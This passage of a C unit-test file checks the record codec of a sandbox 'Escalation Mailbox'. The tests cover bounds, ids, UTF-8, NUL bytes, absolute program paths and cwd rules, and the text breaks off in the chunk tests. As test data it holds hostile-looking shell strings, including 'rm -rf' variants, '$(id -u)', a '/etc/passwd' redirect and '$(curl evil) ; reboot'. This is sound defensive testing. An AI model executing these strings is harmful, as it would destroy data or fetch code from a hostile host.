/* SPDX-License-Identifier: Apache-2.0
 *
 * Unit tests for src/protocol/mailbox.c, the Escalation Mailbox's record
 * codecs (the inbox is sandbox-writable: these records are untrusted):
 *
 *  - every record round-trips, at its bounds (256 arguments, 32768 argument
 *    bytes, a 4096-byte argument, a 4096-byte cwd, a 1024-byte
 *    justification and message, a 16384-byte chunk, status 383), and the
 *    re-encoding equals the bytes decoded;
 *  - each bound + 1 is refused; every prefix of a record and the record
 *    with a byte more are refused; a wrong type, magic or version is
 *    refused by every decoder; a record larger than LZ_MBX_MAX_RECORD has
 *    no type;
 *  - ids: uppercase, non-hex, 31 and 33 digits refused in every record;
 *  - requests: empty argv, relative argv[0] ("ls", "./x", ""), invalid
 *    UTF-8 (stray continuation, overlong, surrogate, truncated), a NUL
 *    inside any string, cwd that is relative or not normalized ("/a/../b",
 *    "/a/./b", "/a//b", "/a/") refused; shell metacharacters inside an
 *    argument are accepted verbatim (they are data);
 *  - lz_mbx_request_problem names the problem, and agrees with the decoder;
 *  - every seed of tests/fuzz/corpus/fuzz_mailbox is a valid record of the
 *    type it claims (the fuzzer starts from valid records).
 * A refused decode must leave its struct zeroed (checked after filling it
 * with 0xa5) and own nothing (LeakSanitizer in the ASan build).
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "common/util.h"
#include "protocol/mailbox.h"
#include "protocol/wire.h"

/* ---- helpers ------------------------------------------------------------ */

#define CAP "0123456789abcdef0123456789abcdef"
#define RID "fedcba9876543210fedcba9876543210"

/* 64 KiB each: not on the stack */
static lz_wbuf b, b2;

static bool zeroed(const void *p, size_t n)
{
    const uint8_t *x = p;
    for (size_t i = 0; i < n; i++)
        if (x[i])
            return false;
    return true;
}

/* A string of n copies of c (caller frees). */
static char *rep(char c, size_t n)
{
    char *s = lz_xmalloc(n + 1);
    memset(s, c, n);
    s[n] = '\0';
    return s;
}

/* Every decoder refuses data[0..n) and leaves its struct zeroed. */
static void expect_refused(const uint8_t *data, size_t n)
{
    lz_mbx_request q;
    memset(&q, 0xa5, sizeof(q));
    assert_false(lz_mbx_request_decode(data, n, &q));
    assert_true(zeroed(&q, sizeof(q)));
    const uint16_t ctl[] = { LZ_MBX_CANCEL, LZ_MBX_ACK };
    for (size_t i = 0; i < LZ_ARRAY_SIZE(ctl); i++) {
        lz_mbx_control c;
        memset(&c, 0xa5, sizeof(c));
        assert_false(lz_mbx_control_decode(data, n, ctl[i], &c));
        assert_true(zeroed(&c, sizeof(c)));
    }
    lz_mbx_chunk k;
    memset(&k, 0xa5, sizeof(k));
    assert_false(lz_mbx_chunk_decode(data, n, &k));
    assert_true(zeroed(&k, sizeof(k)));
    lz_mbx_result r;
    memset(&r, 0xa5, sizeof(r));
    assert_false(lz_mbx_result_decode(data, n, &r));
    assert_true(zeroed(&r, sizeof(r)));
}

/* Every prefix of the record and the record with one byte more are
 * refused by every decoder. */
static void expect_exact_length(const lz_wbuf *w)
{
    for (size_t n = 0; n < w->len; n++)
        expect_refused(w->data, n);
    uint8_t *more = lz_xmalloc(w->len + 1);
    memcpy(more, w->data, w->len);
    more[w->len] = 0;
    expect_refused(more, w->len + 1);
    free(more);
}

/* Decoders of other types refuse a record (a type is never another's). */
static void expect_only(const lz_wbuf *w, uint16_t type)
{
    lz_mbx_request q;
    if (type != LZ_MBX_REQUEST) {
        assert_false(lz_mbx_request_decode(w->data, w->len, &q));
        assert_true(zeroed(&q, sizeof(q)));
    }
    lz_mbx_control c;
    if (type != LZ_MBX_CANCEL)
        assert_false(lz_mbx_control_decode(w->data, w->len, LZ_MBX_CANCEL, &c));
    if (type != LZ_MBX_ACK)
        assert_false(lz_mbx_control_decode(w->data, w->len, LZ_MBX_ACK, &c));
    lz_mbx_chunk k;
    if (type != LZ_MBX_CHUNK)
        assert_false(lz_mbx_chunk_decode(w->data, w->len, &k));
    lz_mbx_result r;
    if (type != LZ_MBX_RESULT)
        assert_false(lz_mbx_result_decode(w->data, w->len, &r));
    assert_int_equal(lz_mbx_record_type(w->data, w->len), type);
}

/* Decode w as a request (must succeed), check that it re-encodes to the
 * same bytes; the caller clears *m. */
static void accept_request(const lz_wbuf *w, lz_mbx_request *m)
{
    assert_false(w->overflow);
    assert_true(w->len <= LZ_MBX_MAX_RECORD);
    assert_true(lz_mbx_request_decode(w->data, w->len, m));
    assert_null(lz_mbx_request_problem(m));
    assert_non_null(m->argv);
    assert_null(m->argv[m->argc]);
    lz_mbx_request_encode(&b2, m);
    assert_int_equal(b2.len, w->len);
    assert_memory_equal(b2.data, w->data, w->len);
}

static void refuse_request(const lz_wbuf *w)
{
    assert_false(w->overflow);
    expect_refused(w->data, w->len);
}

/* Encode and expect the request refused by the decoder and by
 * lz_mbx_request_problem (the encoder itself writes anything). */
static void refuse_encoded(const lz_mbx_request *m)
{
    assert_non_null(lz_mbx_request_problem(m));
    lz_mbx_request_encode(&b, m);
    refuse_request(&b);
}

static lz_mbx_request simple_request(char **argv, size_t argc, const char *cwd)
{
    lz_mbx_request m = { .cwd = (char *) cwd, .argv = argv, .argc = argc, .why = (char *) "" };
    memcpy(m.capability, CAP, sizeof(CAP));
    memcpy(m.request_id, RID, sizeof(RID));
    return m;
}

/* The record header (type, magic, version) for hand-made records. */
static void hdr(lz_wbuf *w, uint16_t type)
{
    lz_wbuf_init(w, type);
    lz_wbuf_u32(w, LZ_MBX_MAGIC);
    lz_wbuf_u32(w, LZ_MBX_VERSION);
}

/* A valid record of each type, in b. */
static void valid_record(uint16_t type)
{
    static char *argv[] = { (char *) "/usr/bin/git", (char *) "push", NULL };
    lz_mbx_request q = simple_request(argv, 2, "/workspace");
    lz_mbx_control c = { .capability = CAP, .request_id = RID, .acked = 3 };
    static const uint8_t bytes[] = "hello\n";
    lz_mbx_chunk k = {
        .request_id = RID, .seq = 7, .stream = LZ_MBX_STDERR, .data = bytes, .len = 6
    };
    lz_mbx_result r = { .request_id = RID,
                        .outcome = LZ_MBX_COMPLETED,
                        .status = 1,
                        .n_chunks = 2,
                        .message = (char *) "exit 1" };
    switch (type) {
    case LZ_MBX_REQUEST:
        lz_mbx_request_encode(&b, &q);
        break;
    case LZ_MBX_CANCEL:
    case LZ_MBX_ACK:
        lz_mbx_control_encode(&b, type, &c);
        break;
    case LZ_MBX_CHUNK:
        lz_mbx_chunk_encode(&b, &k);
        break;
    case LZ_MBX_RESULT:
        lz_mbx_result_encode(&b, &r);
        break;
    default:
        fail();
    }
}

static const uint16_t all_types[] = { LZ_MBX_REQUEST, LZ_MBX_CANCEL, LZ_MBX_ACK, LZ_MBX_CHUNK,
                                      LZ_MBX_RESULT };

/* ---- ids ---------------------------------------------------------------- */

static void test_id_ok(void **state)
{
    (void) state;
    assert_true(lz_mbx_id_ok(CAP));
    assert_true(lz_mbx_id_ok("00000000000000000000000000000000"));
    assert_false(lz_mbx_id_ok(NULL));
    assert_false(lz_mbx_id_ok(""));
    assert_false(lz_mbx_id_ok("0123456789ABCDEF0123456789abcdef"));  /* uppercase */
    assert_false(lz_mbx_id_ok("0123456789abcdeg0123456789abcdef"));  /* g */
    assert_false(lz_mbx_id_ok("0123456789abcdef0123456789abcde"));   /* 31 */
    assert_false(lz_mbx_id_ok("0123456789abcdef0123456789abcdef0")); /* 33 */
    assert_false(lz_mbx_id_ok("0123456789abcdef 123456789abcdef"));
    assert_false(lz_mbx_id_ok("0x23456789abcdef0123456789abcdef"));
}

/* Every record refuses a bad id in each id field: written by hand, since
 * the fixed arrays of the structs cannot hold a 33-digit id. */
static void test_bad_ids_refused(void **state)
{
    (void) state;
    const char *bad[] = {
        "0123456789ABCDEF0123456789abcdef",
        "0123456789abcdeg0123456789abcdef",
        "0123456789abcdef0123456789abcde",
        "0123456789abcdef0123456789abcdef0",
        "",
        "-123456789abcdef0123456789abcdef",
    };
    for (size_t i = 0; i < LZ_ARRAY_SIZE(bad); i++) {
        for (int field = 0; field < 2; field++) {
            const char *cap = field == 0 ? bad[i] : CAP;
            const char *rid = field == 1 ? bad[i] : RID;
            /* control proves the hand-made layout is the real one */
            for (int control = 0; control < 2; control++) {
                const char *c = control ? CAP : cap, *r = control ? RID : rid;
                hdr(&b, LZ_MBX_REQUEST);
                lz_wbuf_str(&b, c);
                lz_wbuf_str(&b, r);
                lz_wbuf_str(&b, "/");
                lz_wbuf_u32(&b, 1);
                lz_wbuf_str(&b, "/bin/true");
                lz_wbuf_str(&b, "");
                lz_mbx_request q;
                if (control) {
                    accept_request(&b, &q);
                    lz_mbx_request_clear(&q);
                } else {
                    refuse_request(&b);
                }
                const uint16_t ctl[] = { LZ_MBX_CANCEL, LZ_MBX_ACK };
                for (size_t t = 0; t < 2; t++) {
                    hdr(&b, ctl[t]);
                    lz_wbuf_str(&b, c);
                    lz_wbuf_str(&b, r);
                    lz_wbuf_u32(&b, 0);
                    lz_mbx_control m;
                    assert_int_equal(lz_mbx_control_decode(b.data, b.len, ctl[t], &m), control);
                    if (!control)
                        expect_refused(b.data, b.len);
                }
            }
        }
        /* CHUNK and RESULT have only the request id */
        for (int control = 0; control < 2; control++) {
            const char *r = control ? RID : bad[i];
            hdr(&b, LZ_MBX_CHUNK);
            lz_wbuf_str(&b, r);
            lz_wbuf_u32(&b, 0);
            lz_wbuf_u32(&b, LZ_MBX_STDOUT);
            lz_wbuf_bytes(&b, "x", 1);
            lz_mbx_chunk k;
            assert_int_equal(lz_mbx_chunk_decode(b.data, b.len, &k), control);
            hdr(&b, LZ_MBX_RESULT);
            lz_wbuf_str(&b, r);
            lz_wbuf_u32(&b, LZ_MBX_DENIED);
            lz_wbuf_u32(&b, 0);
            lz_wbuf_u32(&b, 0);
            lz_wbuf_str(&b, "");
            lz_mbx_result res;
            assert_int_equal(lz_mbx_result_decode(b.data, b.len, &res), control);
            if (control)
                lz_mbx_result_clear(&res);
            else
                expect_refused(b.data, b.len);
        }
    }
    /* through the struct: an uppercase id is refused by problem() too */
    char *argv[] = { (char *) "/bin/true", NULL };
    lz_mbx_request m = simple_request(argv, 1, "/");
    m.capability[0] = 'A';
    assert_non_null(strstr(lz_mbx_request_problem(&m), "capability"));
    m = simple_request(argv, 1, "/");
    m.request_id[31] = 'G';
    assert_non_null(strstr(lz_mbx_request_problem(&m), "request id"));
}

/* ---- framing ------------------------------------------------------------ */

static void test_record_type(void **state)
{
    (void) state;
    for (size_t i = 0; i < LZ_ARRAY_SIZE(all_types); i++) {
        valid_record(all_types[i]);
        assert_int_equal(lz_mbx_record_type(b.data, b.len), all_types[i]);
        /* the header alone has a type; a shorter one has none */
        assert_int_equal(lz_mbx_record_type(b.data, 10), all_types[i]);
        for (size_t n = 0; n < 10; n++)
            assert_int_equal(lz_mbx_record_type(b.data, n), 0);
    }
    hdr(&b, 199);
    assert_int_equal(lz_mbx_record_type(b.data, b.len), 0);
    hdr(&b, 0);
    assert_int_equal(lz_mbx_record_type(b.data, b.len), 0);
    hdr(&b, LZ_MBX_RESULT + 1);
    assert_int_equal(lz_mbx_record_type(b.data, b.len), 0);
}

/* A wrong magic (any byte of it) or version makes a record nobody's. */
static void test_wrong_magic_version_type(void **state)
{
    (void) state;
    for (size_t i = 0; i < LZ_ARRAY_SIZE(all_types); i++) {
        for (size_t off = 2; off < 10; off++) {
            valid_record(all_types[i]);
            b.data[off] ^= 0x01;
            assert_int_equal(lz_mbx_record_type(b.data, b.len), 0);
            expect_refused(b.data, b.len);
        }
        const uint32_t versions[] = { 0, 2, 0x01000000u, UINT32_MAX };
        for (size_t v = 0; v < LZ_ARRAY_SIZE(versions); v++) {
            valid_record(all_types[i]);
            b.data[6] = (uint8_t) (versions[v] >> 24);
            b.data[7] = (uint8_t) (versions[v] >> 16);
            b.data[8] = (uint8_t) (versions[v] >> 8);
            b.data[9] = (uint8_t) versions[v];
            expect_refused(b.data, b.len);
        }
        /* every other type's decoder refuses it */
        valid_record(all_types[i]);
        expect_only(&b, all_types[i]);
        /* the same fields under another type field */
        for (size_t j = 0; j < LZ_ARRAY_SIZE(all_types); j++) {
            valid_record(all_types[i]);
            b.data[0] = (uint8_t) (all_types[j] >> 8);
            b.data[1] = (uint8_t) all_types[j];
            if (i == j)
                continue;
            bool cancel_ack = (all_types[i] == LZ_MBX_ACK && all_types[j] == LZ_MBX_CANCEL) ||
                              (all_types[i] == LZ_MBX_CANCEL && all_types[j] == LZ_MBX_ACK);
            lz_mbx_control c;
            /* CANCEL and ACK share a layout: an ACK with a zero count
             * relabelled is a valid CANCEL (both say the same thing),
             * a nonzero one is not */
            if (!cancel_ack)
                expect_refused(b.data, b.len);
            else if (all_types[j] == LZ_MBX_CANCEL)
                assert_false(lz_mbx_control_decode(b.data, b.len, LZ_MBX_CANCEL, &c));
        }
    }
    /* the control decoder takes only CANCEL and ACK */
    valid_record(LZ_MBX_ACK);
    lz_mbx_control c;
    memset(&c, 0xa5, sizeof(c));
    assert_false(lz_mbx_control_decode(b.data, b.len, LZ_MBX_REQUEST, &c));
    assert_true(zeroed(&c, sizeof(c)));
    b.data[0] = 0;
    b.data[1] = 0;
    assert_false(lz_mbx_control_decode(b.data, b.len, 0, &c));
}

static void test_byte_more_or_less(void **state)
{
    (void) state;
    for (size_t i = 0; i < LZ_ARRAY_SIZE(all_types); i++) {
        valid_record(all_types[i]);
        lz_wbuf copy = b;
        expect_exact_length(&copy);
    }
}

/* Nothing larger than LZ_MBX_MAX_RECORD is a record, whatever it starts with. */
static void test_oversized_record(void **state)
{
    (void) state;
    uint8_t *big = lz_xcalloc(LZ_MBX_MAX_RECORD + 1, 1);
    valid_record(LZ_MBX_CHUNK);
    memcpy(big, b.data, b.len);
    assert_int_equal(lz_mbx_record_type(big, LZ_MBX_MAX_RECORD), LZ_MBX_CHUNK);
    assert_int_equal(lz_mbx_record_type(big, LZ_MBX_MAX_RECORD + 1), 0);
    expect_refused(big, LZ_MBX_MAX_RECORD + 1);
    free(big);
}

/* ---- REQUEST ------------------------------------------------------------ */

static void test_request_round_trip(void **state)
{
    (void) state;
    char *argv[] = { (char *) "/usr/bin/make", (char *) "-C", (char *) "", (char *) "all", NULL };
    lz_mbx_request m = simple_request(argv, 4, "/workspace/src");
    m.why = (char *) "build the \xc3\xa9l\xc3\xa8ve target \xe2\x9c\x93";
    lz_mbx_request_encode(&b, &m);
    lz_mbx_request d;
    accept_request(&b, &d);
    assert_string_equal(d.capability, CAP);
    assert_string_equal(d.request_id, RID);
    assert_string_equal(d.cwd, "/workspace/src");
    assert_int_equal(d.argc, 4);
    for (size_t i = 0; i < 4; i++)
        assert_string_equal(d.argv[i], argv[i]);
    assert_string_equal(d.why, m.why);
    lz_mbx_request_clear(&d);
    assert_true(zeroed(&d, sizeof(d)));
    expect_only(&b, LZ_MBX_REQUEST);

    /* why NULL is sent as "" */
    m = simple_request(argv, 1, "/");
    m.why = NULL;
    assert_null(lz_mbx_request_problem(&m));
    lz_mbx_request_encode(&b, &m);
    accept_request(&b, &d);
    assert_string_equal(d.why, "");
    assert_string_equal(d.cwd, "/");
    lz_mbx_request_clear(&d);
}

/* 256 arguments of 32768 bytes together, two of them 4096 bytes; a cwd of
 * 4096 bytes; a justification of 1024 bytes (512 two-byte characters). */
static void test_request_at_bounds(void **state)
{
    (void) state;
    char **argv = lz_xcalloc(LZ_MBX_MAX_ARGS + 2, sizeof(char *));
    size_t left = LZ_MBX_MAX_ARGV_BYTES;
    argv[0] = rep('p', LZ_MBX_MAX_ARG);
    argv[0][0] = '/';
    argv[1] = rep('a', LZ_MBX_MAX_ARG);
    left -= 2 * LZ_MBX_MAX_ARG;
    for (size_t i = 2; i < LZ_MBX_MAX_ARGS; i++) {
        size_t n = left / (LZ_MBX_MAX_ARGS - i);
        argv[i] = rep((char) ('a' + i % 26), n);
        left -= n;
    }
    assert_int_equal(left, 0);
    char *cwd = rep('c', LZ_MBX_MAX_CWD);
    for (size_t i = 0; i < LZ_MBX_MAX_CWD; i += 64)
        cwd[i] = '/';
    char *why = lz_xmalloc(LZ_MBX_MAX_WHY + 1);
    for (size_t i = 0; i < LZ_MBX_MAX_WHY; i += 2)
        memcpy(why + i, "\xc3\xa9", 2);
    why[LZ_MBX_MAX_WHY] = '\0';

    lz_mbx_request m = simple_request(argv, LZ_MBX_MAX_ARGS, cwd);
    m.why = why;
    assert_null(lz_mbx_request_problem(&m));
    lz_mbx_request_encode(&b, &m);
    lz_mbx_request d;
    accept_request(&b, &d);
    assert_int_equal(d.argc, LZ_MBX_MAX_ARGS);
    assert_string_equal(d.argv[LZ_MBX_MAX_ARGS - 1], argv[LZ_MBX_MAX_ARGS - 1]);
    assert_string_equal(d.cwd, cwd);
    assert_string_equal(d.why, why);
    lz_mbx_request_clear(&d);

    /* 257 arguments (total still within bounds: shorten one) */
    char *last = argv[LZ_MBX_MAX_ARGS - 1];
    argv[LZ_MBX_MAX_ARGS - 1][0] = '\0';
    argv[LZ_MBX_MAX_ARGS] = (char *) "z";
    m.argc = LZ_MBX_MAX_ARGS + 1;
    assert_non_null(strstr(lz_mbx_request_problem(&m), "more than"));
    refuse_encoded(&m);
    argv[LZ_MBX_MAX_ARGS] = NULL;
    m.argc = LZ_MBX_MAX_ARGS;
    memset(last, 'z', strlen(last + 1) + 1);

    /* 32769 bytes together */
    char *one_more = rep('z', strlen(last) + 1);
    argv[LZ_MBX_MAX_ARGS - 1] = one_more;
    assert_non_null(strstr(lz_mbx_request_problem(&m), "together"));
    refuse_encoded(&m);
    argv[LZ_MBX_MAX_ARGS - 1] = last;
    free(one_more);
    assert_null(lz_mbx_request_problem(&m));

    /* an argument of 4097 bytes (argv[1] grows, argv[2] shrinks) */
    char *a1 = argv[1], *a2 = argv[2];
    argv[1] = rep('a', LZ_MBX_MAX_ARG + 1);
    argv[2] = lz_xstrndup(a2, strlen(a2) - 1);
    assert_non_null(strstr(lz_mbx_request_problem(&m), "longer than 4096"));
    refuse_encoded(&m);
    free(argv[1]);
    free(argv[2]);
    argv[1] = a1;
    argv[2] = a2;

    /* a program name of 4097 bytes */
    char *p4097 = rep('p', LZ_MBX_MAX_ARG + 1);
    p4097[0] = '/';
    char *small[] = { p4097, NULL };
    lz_mbx_request s = simple_request(small, 1, "/");
    refuse_encoded(&s);
    free(p4097);

    /* a cwd of 4097 bytes */
    char *cwd4097 = rep('c', LZ_MBX_MAX_CWD + 1);
    cwd4097[0] = '/';
    m.cwd = cwd4097;
    assert_non_null(strstr(lz_mbx_request_problem(&m), "working directory"));
    refuse_encoded(&m);
    m.cwd = cwd;
    free(cwd4097);

    /* a justification of 1025 bytes */
    char *why1025 = rep('w', LZ_MBX_MAX_WHY + 1);
    m.why = why1025;
    assert_non_null(strstr(lz_mbx_request_problem(&m), "justification"));
    refuse_encoded(&m);
    m.why = why;
    free(why1025);

    /* and unchanged it is accepted again: the refusals were the bounds */
    lz_mbx_request_encode(&b, &m);
    accept_request(&b, &d);
    lz_mbx_request_clear(&d);

    for (size_t i = 0; i < LZ_MBX_MAX_ARGS; i++)
        free(argv[i]);
    free(argv);
    free(cwd);
    free(why);
}

/* Counts the decoder refuses before looking further: 0 and 257, and a
 * count far larger than the record (nothing is allocated for it). */
static void test_request_argc_field(void **state)
{
    (void) state;
    const uint32_t counts[] = { 0, LZ_MBX_MAX_ARGS + 1, 100000, UINT32_MAX };
    for (size_t i = 0; i < LZ_ARRAY_SIZE(counts); i++) {
        hdr(&b, LZ_MBX_REQUEST);
        lz_wbuf_str(&b, CAP);
        lz_wbuf_str(&b, RID);
        lz_wbuf_str(&b, "/");
        lz_wbuf_u32(&b, counts[i]);
        for (uint32_t a = 0; a < counts[i] && a <= LZ_MBX_MAX_ARGS; a++)
            lz_wbuf_str(&b, "/x");
        lz_wbuf_str(&b, "");
        refuse_request(&b);
    }
    /* a count of 2 with one argument: the justification is read as the
     * second argument and the record ends early */
    hdr(&b, LZ_MBX_REQUEST);
    lz_wbuf_str(&b, CAP);
    lz_wbuf_str(&b, RID);
    lz_wbuf_str(&b, "/");
    lz_wbuf_u32(&b, 2);
    lz_wbuf_str(&b, "/x");
    lz_wbuf_str(&b, "");
    refuse_request(&b);

    lz_mbx_request m = simple_request(NULL, 0, "/");
    assert_non_null(strstr(lz_mbx_request_problem(&m), "empty"));
    char *none[] = { NULL };
    m = simple_request(none, 0, "/");
    refuse_encoded(&m);
}

/* The request language has no command strings and no PATH lookup. */
static void test_request_relative_program(void **state)
{
    (void) state;
    const char *progs[] = { "ls",      "./x",      "",       "bin/ls",
                            "~/bin/x", " /bin/ls", "ls -la", "make && rm -rf ~" };
    for (size_t i = 0; i < LZ_ARRAY_SIZE(progs); i++) {
        char *argv[] = { (char *) progs[i], (char *) "-l", NULL };
        lz_mbx_request m = simple_request(argv, 2, "/workspace");
        assert_non_null(strstr(lz_mbx_request_problem(&m), "absolute"));
        refuse_encoded(&m);
    }
    /* control: the same with an absolute program is accepted */
    char *argv[] = { (char *) "/bin/ls", (char *) "-l", NULL };
    lz_mbx_request m = simple_request(argv, 2, "/workspace");
    lz_mbx_request_encode(&b, &m);
    lz_mbx_request d;
    accept_request(&b, &d);
    lz_mbx_request_clear(&d);
    /* a relative path later in argv is an argument, not a program */
    char *argv2[] = { (char *) "/bin/ls", (char *) "./x", (char *) "ls", NULL };
    m = simple_request(argv2, 3, "/workspace");
    lz_mbx_request_encode(&b, &m);
    accept_request(&b, &d);
    lz_mbx_request_clear(&d);
}

static void test_request_cwd(void **state)
{
    (void) state;
    const char *bad[] = { "/a/../b", "/a/./b", "/a//b", "/a/",       "//",
                          "/..",     "/.",     "/a/..", "/a/.",      "a/b",
                          "",        ".",      "..",    "workspace", "//workspace" };
    for (size_t i = 0; i < LZ_ARRAY_SIZE(bad); i++) {
        char *argv[] = { (char *) "/bin/pwd", NULL };
        lz_mbx_request m = simple_request(argv, 1, bad[i]);
        assert_non_null(strstr(lz_mbx_request_problem(&m), "working directory"));
        refuse_encoded(&m);
    }
    const char *good[] = { "/",      "/a",     "/a/b",
                           "/a/...", "/a/.b",  "/a/..b",
                           "/a/b.",  "/a b/c", "/\xc3\xa9t\xc3\xa9" };
    for (size_t i = 0; i < LZ_ARRAY_SIZE(good); i++) {
        char *argv[] = { (char *) "/bin/pwd", NULL };
        lz_mbx_request m = simple_request(argv, 1, good[i]);
        lz_mbx_request_encode(&b, &m);
        lz_mbx_request d;
        accept_request(&b, &d);
        assert_string_equal(d.cwd, good[i]);
        lz_mbx_request_clear(&d);
    }
    /* cwd is a text the developer sees: UTF-8 like argv */
    char *argv[] = { (char *) "/bin/pwd", NULL };
    lz_mbx_request m = simple_request(argv, 1, "/a\xff");
    assert_non_null(strstr(lz_mbx_request_problem(&m), "UTF-8"));
    refuse_encoded(&m);
}

static void test_request_utf8(void **state)
{
    (void) state;
    const char *bad[] = {
        "\xff",             /* never in UTF-8 */
        "\x80",             /* stray continuation */
        "\xc0\xaf",         /* overlong "/" */
        "\xe0\x80\xaf",     /* overlong "/" */
        "\xed\xa0\x80",     /* surrogate U+D800 */
        "\xf4\x90\x80\x80", /* above U+10FFFF */
        "a\xc3",            /* truncated */
    };
    for (size_t i = 0; i < LZ_ARRAY_SIZE(bad); i++) {
        /* in an argument */
        char *argv[] = { (char *) "/bin/echo", (char *) bad[i], NULL };
        lz_mbx_request m = simple_request(argv, 2, "/");
        assert_non_null(strstr(lz_mbx_request_problem(&m), "UTF-8"));
        refuse_encoded(&m);
        /* in the program */
        char *prog = lz_xasprintf("/bin/%s", bad[i]);
        char *argv0[] = { prog, NULL };
        m = simple_request(argv0, 1, "/");
        refuse_encoded(&m);
        free(prog);
        /* in the justification */
        m = simple_request(argv, 1, "/");
        m.why = (char *) bad[i];
        assert_non_null(strstr(lz_mbx_request_problem(&m), "justification"));
        refuse_encoded(&m);
        /* in a result's message */
        lz_mbx_result r = { .request_id = RID,
                            .outcome = LZ_MBX_FAILED,
                            .message = (char *) bad[i] };
        lz_mbx_result_encode(&b, &r);
        expect_refused(b.data, b.len);
    }
    /* a justification of 1024 bytes ending in a cut character */
    char *why = rep('w', LZ_MBX_MAX_WHY);
    why[LZ_MBX_MAX_WHY - 1] = '\xc3';
    char *argv[] = { (char *) "/bin/true", NULL };
    lz_mbx_request m = simple_request(argv, 1, "/");
    m.why = why;
    refuse_encoded(&m);
    free(why);
}

/* A NUL inside a string field is refused (it would cut the string short
 * for every C reader after the decoder): written by hand, field by field,
 * with a control that differs only in the NUL. */
static void test_request_nul_inside(void **state)
{
    (void) state;
    for (int field = 0; field < 4; field++) {
        for (int control = 0; control < 2; control++) {
            /* 3 bytes each: "/a\0" for a path, "a\0b" otherwise */
            const char *path = control ? "/ab" : "/a\0";
            const char *text = control ? "axb" : "a\0b";
            hdr(&b, LZ_MBX_REQUEST);
            lz_wbuf_str(&b, CAP);
            lz_wbuf_str(&b, RID);
            lz_wbuf_bytes(&b, field == 0 ? path : "/ab", 3); /* cwd */
            lz_wbuf_u32(&b, 2);
            lz_wbuf_bytes(&b, field == 1 ? path : "/ab", 3); /* program */
            lz_wbuf_bytes(&b, field == 2 ? text : "axb", 3); /* argument */
            lz_wbuf_bytes(&b, field == 3 ? text : "axb", 3); /* why */
            if (control) {
                lz_mbx_request d;
                accept_request(&b, &d);
                lz_mbx_request_clear(&d);
            } else {
                refuse_request(&b);
            }
        }
    }
    for (int control = 0; control < 2; control++) {
        hdr(&b, LZ_MBX_RESULT);
        lz_wbuf_str(&b, RID);
        lz_wbuf_u32(&b, LZ_MBX_FAILED);
        lz_wbuf_u32(&b, 0);
        lz_wbuf_u32(&b, 0);
        lz_wbuf_bytes(&b, control ? "axb" : "a\0b", 3);
        lz_mbx_result r;
        assert_int_equal(lz_mbx_result_decode(b.data, b.len, &r), control);
        lz_mbx_result_clear(&r);
    }
}

/* Shell syntax inside an argument is data: accepted and kept byte for
 * byte, because nothing on the host ever hands argv to a shell. */
static void test_request_shell_metacharacters_are_data(void **state)
{
    (void) state;
    char *argv[] = { (char *) "/usr/bin/printf",
                     (char *) "%s\\n",
                     (char *) "a; rm -rf /",
                     (char *) "x && y || z",
                     (char *) "$(id -u)",
                     (char *) "`id`",
                     (char *) "| > /etc/passwd < * ? ~ #",
                     (char *) "'\"\\",
                     (char *) "a\nb",
                     (char *) "${HOME}",
                     NULL };
    lz_mbx_request m = simple_request(argv, 10, "/workspace");
    m.why = (char *) "$(curl evil) ; reboot";
    lz_mbx_request_encode(&b, &m);
    lz_mbx_request d;
    accept_request(&b, &d);
    assert_int_equal(d.argc, 10);
    for (size_t i = 0; i < 10; i++)
        assert_string_equal(d.argv[i], argv[i]);
    assert_string_equal(d.why, m.why);
    lz_mbx_request_clear(&d);
}

/* ---- CANCEL / ACK ------------------------------------------------------- */

static void test_control_round_trip(void **state)
{
    (void) state;
    const uint32_t counts[] = { 0, 1, 1000, UINT32_MAX };
    for (size_t i = 0; i < LZ_ARRAY_SIZE(counts); i++) {
        lz_mbx_control c = { .capability = CAP, .request_id = RID, .acked = counts[i] };
        lz_mbx_control_encode(&b, LZ_MBX_ACK, &c);
        lz_mbx_control d;
        assert_true(lz_mbx_control_decode(b.data, b.len, LZ_MBX_ACK, &d));
        assert_string_equal(d.capability, CAP);
        assert_string_equal(d.request_id, RID);
        assert_int_equal(d.acked, counts[i]);
        lz_mbx_control_encode(&b2, LZ_MBX_ACK, &d);
        assert_int_equal(b2.len, b.len);
        assert_memory_equal(b2.data, b.data, b.len);
        expect_only(&b, LZ_MBX_ACK);

        /* a CANCEL carries no count: the encoder writes 0 */
        lz_mbx_control_encode(&b, LZ_MBX_CANCEL, &c);
        assert_true(lz_mbx_control_decode(b.data, b.len, LZ_MBX_CANCEL, &d));
        assert_string_equal(d.capability, CAP);
        assert_string_equal(d.request_id, RID);
        assert_int_equal(d.acked, 0);
    }
    /* a CANCEL written with a count is refused */
    for (uint32_t n = 0; n < 3; n++) {
        hdr(&b, LZ_MBX_CANCEL);
        lz_wbuf_str(&b, CAP);
        lz_wbuf_str(&b, RID);
        lz_wbuf_u32(&b, n);
        lz_mbx_control d;
        assert_int_equal(lz_mbx_control_decode(b.data, b.len, LZ_MBX_CANCEL, &d), n == 0);
        if (n)
            assert_true(zeroed(&d, sizeof(d)));
    }
}

/* ---- CHUNK -------------------------------------------------------------- */

static void test_chunk_round_trip(void **state)
{
    (void) state;
    uint8_t *data = lz_xmalloc(LZ_MBX_MAX_CHUNK + 1);
    for (size_t i = 0; i <= LZ_MBX_MAX_CHUNK; i++)
        data[i] = (uint8_t) (i * 7); /* NULs and non-UTF-8 too: a chunk is bytes */
    const size_t lens[] = { 0, 1, 4096, LZ_MBX_MAX_CHUNK };
    for (size_t i = 0; i < LZ_ARRAY_SIZE(lens); i++) {
        for (uint32_t stream = LZ_MBX_STDOUT; stream <= LZ_MBX_STDERR; stream++) {
            lz_mbx_chunk k = { .request_id = RID,
                               .seq = (uint32_t) i * 1000u + stream,
                               .stream = stream,
                               .data = data,
                               .len = lens[i] };
            lz_mbx_chunk_encode(&b, &k);
            lz_mbx_chunk d;
            assert_true(lz_mbx_chunk_decode(b.data, b.len, &d));
            assert_string_equal(d.request_id, RID);
            assert_int_equal(d.seq, k.seq);
            assert_int_equal(d.stream, stream);
            assert_int_equal(d.len, lens[i]);
            /* the bytes are not copied: they are the record's */
            assert_ptr_equal(d.data, b.data + b.len - lens[i]);
            if (lens[i])
                assert_memory_equal(d.data, data, lens[i]);
            lz_mbx_chunk_encode(&b2, &d);
            assert_int_equal(b2.len, b.len);
            assert_memory_equal(b2.data, b.data, b.len);
        }
    }
    expect_only(&b, LZ_MBX_CHUNK);
    /* 16385 bytes */
